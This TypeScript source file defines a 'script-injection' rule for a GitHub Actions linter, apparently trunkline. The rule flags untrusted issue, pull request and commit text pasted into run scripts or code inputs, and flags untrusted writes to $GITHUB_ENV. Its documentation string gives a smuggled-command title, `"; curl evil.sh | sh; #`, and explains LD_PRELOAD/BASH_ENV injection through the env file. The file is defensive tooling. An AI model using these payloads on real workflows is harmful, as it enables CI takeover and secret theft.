import type { WorkflowPath } from "../diagnostics/diagnostic.js";
import type { Json, JsonObject } from "../model/json.js";
import type { Finding } from "./_define-rule.js";
import { defineRule } from "./_define-rule.js";
import { type ExpressionFacts, type Reference, expressionFacts, findExpressions, formatReference } from "./_expressions.js";
import { keyUnder, stepsWithin } from "./_nested-steps.js";
import { parseUses } from "./_uses.js";
import { type JobView, type WorkflowView, isObject } from "./_workflow-view.js";
import { matrixShape, matrixValues } from "./_matrix.js";

// Values anyone who can open an issue, comment or push a branch to a fork writes, as listed in
// https://docs.github.com/actions/concepts/security/script-injections ("contexts that typically end
// with body, default_branch, email, head_ref, label, message, name, page_name, ref and title").
const UNTRUSTED: readonly (readonly string[])[] = [
  "head_ref",
  "event.issue.title",
  "event.issue.body",
  "event.pull_request.title",
  "event.pull_request.body",
  "event.pull_request.head.ref",
  "event.pull_request.head.label",
  "event.pull_request.head.repo.default_branch",
  "event.comment.body",
  "event.review.body",
  "event.review_comment.body",
  "event.discussion.title",
  "event.discussion.body",
  "event.pages.*.page_name",
  "event.commits.*.message",
  "event.commits.*.author.email",
  "event.commits.*.author.name",
  "event.commits.*.committer.email",
  "event.commits.*.committer.name",
  "event.head_commit.message",
  "event.head_commit.author.email",
  "event.head_commit.author.name",
  "event.head_commit.committer.email",
  "event.head_commit.committer.name",
  "event.workflow_run.head_branch",
  "event.workflow_run.display_title",
  "event.workflow_run.head_commit.message",
  "event.workflow_run.head_commit.author.email",
  "event.workflow_run.head_commit.author.name",
  "event.workflow_run.pull_requests.*.head.ref",
  "event.release.name",
  "event.release.body",
  "event.release.tag_name",
  "event.pull_request.head.repo.full_name",
  "event.pull_request.head.repo.name",
].map((path) => path.split("."));

// Inputs that actions run as code (JavaScript, shell, PowerShell, Python, jq or yq programs, or
// templates they evaluate), by `owner/repo` lowercased. From the actions' documentation, CodeQL's
// code-injection sink models and zizmor's list.
const CODE_INPUTS: Readonly<Record<string, readonly string[]>> = {
  "actions/github-script": ["script"],
  "mikefarah/yq": ["cmd"],
  "azure/cli": ["inlineScript"],
  "azure/powershell": ["inlineScript"],
  "appleboy/ssh-action": ["script"],
  "amadevus/pwsh-script": ["script"],
  "jannekem/run-python-script-action": ["script"],
  "cardinalby/js-eval-action": ["expression"],
  "addnab/docker-run-action": ["options", "run"],
  "sergeysova/jq-action": ["cmd"],
  "devorbitus/yq-action-output": ["cmd"],
  "8398a7/action-slack": ["custom_payload"],
  "gautamkrishnar/blog-post-workflow": ["item_exec"],
  "imjohnbo/issue-bot": ["body", "linked-comments-previous-issue-text", "linked-comments-new-issue-text"],
  "lucasbento/auto-close-issues": ["issue-close-message"],
  "roots/issue-closer-action": ["issue-close-message", "pr-close-message"],
  "skitionek/notify-microsoft-teams": ["overwrite"],
  "tibdex/backport": ["body_template", "head_template", "labels_template", "title_template"],
};

export default defineRule({
  id: "script-injection",
  severity: "error",
  summary: "Untrusted text (titles, bodies, branch names, commit messages; outputs and text inputs) is expanded inside a script.",
  fixable: true,
  docs: {
    why: `\`\${{ }}\` is replaced before the shell (or github-script's JavaScript) runs, so a pull request
titled \`"; curl evil.sh | sh; #\` becomes part of the script and runs with the job's token and secrets.
Titles, bodies, comments, branch names, commit messages and author names are written by whoever
opens the issue or pull request. Text compared (\`title == 'x'\`), negated or tested by \`contains()\`,
\`startsWith()\` or \`endsWith()\` reaches the script only as true or false, and is not reported; text
passed through \`format()\`, \`join()\`, \`toJSON()\` or \`||\` is, and so is a matrix value written with a
\`\${{ }}\` that reads such text (\`include: [{ title: "\${{ github.event.issue.title }}" }]\`).
See [script injections](https://docs.github.com/actions/concepts/security/script-injections).`,
    invalid: `on: pull_request
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - run: echo "Checking \${{ github.event.pull_request.title }}"
`,
    valid: `on: pull_request
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - run: echo "Checking $TITLE"
        env:
          TITLE: \${{ github.event.pull_request.title }}
`,
    fix: `Pass the value through \`env:\` and use the variable in the script (\`"$TITLE"\`, or \`process.env.TITLE\` in github-script): the shell then treats it as data.

What counts as a script: \`run:\` (any \`shell:\`, pwsh included), steps inside \`parallel:\`, and the
inputs actions evaluate as code: ${Object.entries(CODE_INPUTS).map(([action, inputs]) => `\`${action}\`'s ${inputs.map((input) => `\`${input}\``).join(", ")}`).join("; ")}.
Also reported: \`\${{ env.NAME }}\` in a script where \`NAME\` (in the step's, job's or workflow's \`env:\`)
holds untrusted text — the expression pastes the text just the same; and untrusted text written into
\`$GITHUB_ENV\` or \`$GITHUB_PATH\` (\`echo "X=$TITLE" >> "$GITHUB_ENV"\`), even through a variable: a
line break in it sets any variable (\`BASH_ENV\`, \`NODE_OPTIONS\`, \`LD_PRELOAD\`) for every later step.
Validate such text against a strict pattern before writing it, or give it to the steps that need it
through their own \`env:\`.

Each finding is placed on the line of the expression (or of the line writing the file), also inside
a long \`run: |\` block.`,
    severity: `Text an outsider writes — issue, pull request, comment, review and discussion text, branch names
(\`github.head_ref\`), commit messages and authors, release names and notes — is an **error**.
Text whose source the workflow does not show is a **warning**: \`steps.<id>.outputs.*\`,
\`needs.<id>.outputs.*\`, and \`inputs.*\` (or \`github.event.inputs.*\`) declared as \`type: string\` or
without a type, in \`workflow_call\`, \`workflow_dispatch\` and composite actions, and the event's other
strings (labels, URLs, refs, file names; not its numbers, ids, hashes, times, flags, states and logins,
nor \`github.event.repository\`, which the owners set), also through \`\${{ env.NAME }}\` where \`NAME\` holds
one; a quote or \`$( )\` in such a value runs as code just the same. Not reported: \`boolean\`, \`number\`, \`choice\` and
\`environment\` inputs (GitHub checks them before the run), \`steps.<id>.outcome\` and \`conclusion\`,
\`needs.<id>.result\`, and values GitHub sets (\`github.sha\`, numbers, ids). In a workflow run by
\`pull_request_target\` or \`workflow_run\`, a line writing text the shell computes (\`$VAR\`, \`$(…)\`) into
\`$GITHUB_ENV\` or \`$GITHUB_PATH\` is a **warning** too: a file, artifact or branch name of the fork can
reach it. A level set in \`trunkline.config.ts\` applies to all of these.`,
  },
  step({ step, job, workflow, report }) {
    for (const at of stepsWithin(step)) {
      const codeInputs = codeInputsOf(at.raw);
      // the untrusted variables, read only for a step that uses env or writes the env file: most do neither
      let env: Map<string, UntrustedVariable> | undefined;
      const envOf = () => (env ??= untrustedEnv([workflow.raw["env"], job.raw["env"], at.raw["env"]], workflow.raw["on"]));
      for (const use of step.expressions) {
        const key = keyUnder(at, use.path);
        const depth = use.path.length - at.path.length;
        const isRun = key === "run" && depth === 1;
        const isCode = codeInputs !== undefined && key === "with" && depth === 2 && codeInputs.includes(String(use.path.at(-1)).toLowerCase());
        if (!isRun && !isCode) continue;
        const reported = new Set<string>();
        const embedded = findExpressions(use.text);
        for (const [index, expression] of use.expressions.entries()) {
          const place = embedded[index];
          const within = place ? use.text.slice(place.start, place.end) : undefined;
          for (const reference of expression.flowing) {
            const text = formatReference(reference);
            // once per reference in each different `${{ }}`: each is a place to fix, on its own line
            const key = `${text}\0${within ?? ""}`;
            if (reported.has(key)) continue;
            if (isUntrusted(reference, expression, workflow.raw["on"])) {
              reported.add(key);
              report({ ...finding(use.path, text, isCode && isGithubScript(at.raw)), ...(within ? { within } : {}) });
            } else if (isUnvetted(reference, workflow.raw["on"])) {
              reported.add(key);
              report({ ...unvetted(use.path, text, isCode && isGithubScript(at.raw)), ...(within ? { within } : {}) });
            } else if (reference.root === "env" && reference.segments.length === 1 && typeof reference.segments[0] === "string") {
              const source = envOf().get(reference.segments[0]);
              if (!source) continue;
              reported.add(key);
              report(carried(use.path, within, `env.${source.name}`, `env.${source.name} holds`, source, `read the variable in the script instead (${isCode && isGithubScript(at.raw) ? `process.env.${source.name}` : `"$${source.name}"`}), not \${{ env.${source.name} }}`));
            } else if (reference.root === "matrix") {
              // a matrix value written with `${{ }}` carries whatever that expression reads
              const source = matrixSource(job, reference, workflow.raw["on"]);
              if (!source) continue;
              reported.add(key);
              report(carried(use.path, within, text, `the job's matrix sets ${text} from`, source, `pass it through env: (NAME: \${{ ${text} }}) and read the variable in the script`));
            }
          }
        }
      }
      const run = at.raw["run"];
      if (typeof run === "string" && (run.includes("GITHUB_ENV") || run.includes("GITHUB_PATH"))) reportEnvFileWrites(run, [...at.path, "run"], envOf(), privilegedTrigger(workflow), report);
    }
  },
});

function isGithubScript(raw: JsonObject): boolean {
  return String(raw["uses"]).toLowerCase().startsWith("actions/github-script@");
}

// The inputs of the step's action that are run as code, lowercased; undefined for other steps.
function codeInputsOf(raw: JsonObject): string[] | undefined {
  const uses = raw["uses"];
  const target = typeof uses === "string" ? parseUses(uses) : undefined;
  if (target?.kind !== "remote" || target.subpath !== "") return undefined;
  return CODE_INPUTS[`${target.owner}/${target.repo}`.toLowerCase()]?.map((input) => input.toLowerCase());
}

interface UntrustedVariable {
  /** The variable's name as written. */
  name: string;
  /** The untrusted value it holds, for messages: `github.event.issue.title`. */
  untrusted: string;
  /** It holds text of unknown origin (an output, a text input), not text an outsider writes: a warning, and fine to write to the env file. */
  unvetted?: boolean;
}

// Environment variables (workflow, job, step; the inner one wins) whose value holds untrusted
// text, by lowercased name: expressions read `env.*` without case.
function untrustedEnv(levels: readonly (Json | undefined)[], on: Json | undefined): Map<string, UntrustedVariable> {
  const found = new Map<string, UntrustedVariable>();
  for (const level of levels) {
    if (!isObject(level)) continue;
    for (const [name, value] of Object.entries(level)) {
      const held = typeof value === "string" && value.includes("${{") ? untrustedIn(value, on) : undefined;
      if (held) found.set(name.toLowerCase(), { name, ...held });
      else found.delete(name.toLowerCase());
    }
  }
  return found;
}

// A finding for `${{ <text> }}` in a script, whose value carries text from elsewhere (an env variable,
// a matrix value): `carrier` says where it comes from ("env.T holds").
function carried(path: WorkflowPath, within: string | undefined, text: string, carrier: string, source: { untrusted: string; unvetted?: boolean }, hint: string): Finding {
  return {
    path,
    ...(within ? { within } : {}),
    ...(source.unvetted ? { severity: "warning" as const } : {}),
    message: `${carrier} ${source.untrusted}, ${source.unvetted ? "text this workflow does not control" : "which whoever opens the issue or pull request writes"}, and \${{ ${text} }} pastes it into this script before it runs`,
    hint,
  };
}

// What a `matrix.<key>` reference may carry from the expressions its values are written with.
function matrixSource(job: JobView, reference: Reference, on: Json | undefined): { untrusted: string; unvetted?: boolean } | undefined {
  if (!matrixShape(job).computed) return undefined;
  const values = matrixValues(job, reference.segments, { keepComputed: true });
  let unvetted: { untrusted: string; unvetted?: boolean } | undefined;
  for (const value of values ?? []) {
    if (typeof value !== "string" || !value.includes("${{")) continue;
    const source = untrustedIn(value, on);
    if (source && !source.unvetted) return source;
    unvetted ??= source;
  }
  return unvetted;
}

function untrustedIn(text: string, on: Json | undefined): { untrusted: string; unvetted?: boolean } | undefined {
  let unvetted: string | undefined;
  for (const expression of findExpressions(text)) {
    const facts = expressionFacts(expression.body);
    const references = facts.flowing;
    const reference = references.find((candidate) => isUntrusted(candidate, facts, on));
    if (reference) return { untrusted: formatReference(reference) };
    const other = unvetted === undefined ? references.find((candidate) => isUnvetted(candidate, on)) : undefined;
    if (other) unvetted = formatReference(other);
  }
  return unvetted === undefined ? undefined : { untrusted: unvetted, unvetted: true };
}

// A line that appends to the environment or path file: `>> "$GITHUB_ENV"`, `>>${GITHUB_PATH}`,
// `| Out-File -FilePath $env:GITHUB_ENV -Append`, `Add-Content $env:GITHUB_ENV`.
const ENV_FILE_WRITE = /(>>?\s*["']?\$\{?(GITHUB_ENV|GITHUB_PATH)\b)|((Out-File|Add-Content|Set-Content|tee)\b[^\n]*\$(env:)?\{?(GITHUB_ENV|GITHUB_PATH)\b)/i;
const SHELL_VARIABLE = /\$(?:env:)?\{?([A-Za-z_][A-Za-z0-9_]*)/g;

// The trigger that runs this workflow with the base repository's token for a fork's pull request, if any.
function privilegedTrigger(workflow: WorkflowView): string | undefined {
  return ["pull_request_target", "workflow_run"].find((name) => workflow.triggers.has(name));
}

// Text the shell computes: a variable, `$(…)` or backticks, beside the env file's own name.
const COMPUTED = /\$[A-Za-z_{(]|`/;

function reportEnvFileWrites(run: string, path: WorkflowPath, env: ReadonlyMap<string, UntrustedVariable>, privileged: string | undefined, report: (finding: Finding) => void): void {
  if (!run.includes("GITHUB_ENV") && !run.includes("GITHUB_PATH")) return;
  const reported = new Set<string>();
  for (const line of run.split("\n")) {
    const write = ENV_FILE_WRITE.exec(line);
    if (!write) continue;
    const file = (write[2] ?? write[6])!.toUpperCase();
    let untrustedOnLine = false;
    for (const match of line.matchAll(SHELL_VARIABLE)) {
      const variable = env.get(match[1]!.toLowerCase());
      if (!variable || variable.unvetted || reported.has(variable.name)) continue;
      reported.add(variable.name);
      untrustedOnLine = true;
      report({
        path,
        within: line.trim(),
        message: `this script writes $${variable.name}, which holds ${variable.untrusted}, into $${file}: a line break in that text sets any variable (BASH_ENV, NODE_OPTIONS, LD_PRELOAD) or path for every later step`,
        hint: `do not write untrusted text to $${file}; check it against a strict pattern first, or give it to the steps that need it through their own env:`,
      });
    }
    // in a privileged workflow any computed value may come from the fork (a file, an artifact, a branch name);
    // expressions are judged above, one by one
    if (privileged && !untrustedOnLine && !line.includes("${{") && COMPUTED.test(line.replace(/\$(env:)?\{?GITHUB_(ENV|PATH)\}?/gi, ""))) {
      report({
        path,
        within: line.trim(),
        severity: "warning",
        message: `this ${privileged} workflow writes text computed at run time into $${file}; in a run a fork's pull request starts, a branch name, file or artifact of the fork that reaches it can set any variable (LD_PRELOAD, BASH_ENV) or path for every later step`,
        hint: `write only literal text to $${file} here, or pass the value to the steps that need it through $GITHUB_OUTPUT and their own env:`,
      });
    }
  }
}

function finding(path: WorkflowPath, text: string, inGithubScript: boolean): Finding {
  const variable = text.split(".").at(-1)!.replace(/[^a-z0-9]+/gi, "_").toUpperCase();
  const usage = inGithubScript ? `process.env.${variable}` : `"$${variable}"`;
  return {
    path,
    message: `${text} is written by whoever opens the issue or pull request, and is pasted into this script before it runs`,
    hint: `pass it through env (${variable}: \${{ ${text} }}) and use ${usage} in the script`,
  };
}

// Text whose author trunkline cannot see from the workflow: a step's or job's output, a text input
// of a reusable or manually run workflow (the caller, or whoever may run it, writes it), or a string
// of the event payload outside the known attacker-written fields.
function unvetted(path: WorkflowPath, text: string, inGithubScript: boolean): Finding {
  const { hint } = finding(path, text, inGithubScript);
  return {
    path,
    severity: "warning",
    message: `${text} is text this workflow does not control, pasted into this script before it runs: quotes or $( ) in it run as code`,
    hint,
  };
}

// Events whose payload holds text anyone may write (titles, bodies, comments, branch names, commit
// messages). A `label` or `schedule` payload holds none: serializing it pastes no outsider's text.
// `workflow_call` (and a composite action's steps) runs with the event of its caller, which may be any of them.
const OUTSIDER_EVENTS = new Set(["pull_request", "pull_request_target", "pull_request_review", "pull_request_review_comment", "issues", "issue_comment", "discussion", "discussion_comment", "push", "workflow_run", "merge_group", "gollum", "workflow_call"]);

// Whether one of the workflow's triggers (`on:` as a name, a list or a mapping) is such an event.
// A composite action has no `on:`: whichever workflow runs it may be.
function carriesOutsiderText(on: Json | undefined): boolean {
  if (on === undefined) return true;
  const names = typeof on === "string" ? [on] : Array.isArray(on) ? on : isObject(on) ? Object.keys(on) : [];
  return names.some((name) => typeof name === "string" && OUTSIDER_EVENTS.has(name));
}

// Input types whose values cannot carry code: GitHub checks them before the run starts.
const SAFE_INPUT_TYPES = new Set(["boolean", "number", "choice", "environment"]);

function isUnvetted(reference: Reference, on: Json | undefined): boolean {
  const [first, second, third] = reference.segments;
  if ((reference.root === "steps" || reference.root === "needs") && second === "outputs" && third !== undefined) return true;
  if (reference.root === "github" && first === "event" && second !== "inputs") return isOpenEventText(reference.segments);
  const input = reference.root === "inputs" ? first : reference.root === "github" && first === "event" && second === "inputs" ? third : undefined;
  if (typeof input !== "string" || input === "*") return false;
  return !SAFE_INPUT_TYPES.has(inputType(on, input) ?? "string");
}

// Parts of the event payload the repository's owners set, not whoever starts the run.
const OWNED_PAYLOAD = new Set(["repository", "organization", "enterprise", "installation", "action"]);
// Payload values GitHub writes in a fixed shape: numbers, ids, hashes, times, flags, states, logins.
const FIXED_FIELD = /^(number|id|node_id|sha|after|before|size|draft|merged|locked|private|fork|state|status|conclusion|ref_type|forced|created|deleted|login|run_attempt|run_number|.+_(sha|at|id|count|number))$/;

// Any other string of the event payload (a label, a URL, a ref, a file name) may carry text a user chose.
function isOpenEventText(segments: readonly (string | null)[]): boolean {
  const area = segments[1];
  const last = segments.at(-1);
  if (segments.length < 2 || typeof area !== "string" || OWNED_PAYLOAD.has(area)) return false;
  return typeof last === "string" && last !== "*" && !FIXED_FIELD.test(last);
}

// The declared type of a `workflow_call` or `workflow_dispatch` input (lowercased name), if any.
function inputType(on: Json | undefined, name: string): string | undefined {
  if (!isObject(on)) return undefined;
  for (const event of ["workflow_call", "workflow_dispatch"]) {
    const inputs = isObject(on[event]) ? (on[event] as JsonObject)["inputs"] : undefined;
    if (!isObject(inputs)) continue;
    for (const [key, spec] of Object.entries(inputs)) {
      if (key.toLowerCase() !== name) continue;
      const type = isObject(spec) ? spec["type"] : undefined;
      return typeof type === "string" ? type.toLowerCase() : "string";
    }
  }
  return undefined;
}

// Whether `reference`, read in an expression with `facts` in a workflow run `on` those events, holds
// untrusted text.
function isUntrusted(reference: Reference, facts: ExpressionFacts, on: Json | undefined): boolean {
  if (reference.root !== "github") return false;
  const { segments } = reference;
  // toJSON(github.event) writes every property of the object, its untrusted text included
  const serialized = facts.functions.has("tojson") && carriesOutsiderText(on);
  return UNTRUSTED.some((pattern) => (pattern.length === segments.length || (serialized && segments.length < pattern.length)) && segments.every((segment, index) => segment === "*" || pattern[index] === "*" || pattern[index] === segment));
}
